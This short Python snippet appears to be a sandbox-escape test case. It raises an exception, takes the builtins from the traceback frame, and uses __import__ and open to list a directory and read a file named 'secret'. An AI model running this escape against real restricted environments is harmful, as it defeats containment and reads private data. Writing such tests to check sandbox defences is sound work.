# Take the frame of a traceback and its builtins.
# This is tried without the sandbox too: there it does harm.
def run(c):
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
        return frame.f_builtins["__import__"]("posix").listdir(c["folder"]), frame.f_builtins["open"](c["secret"]).read()
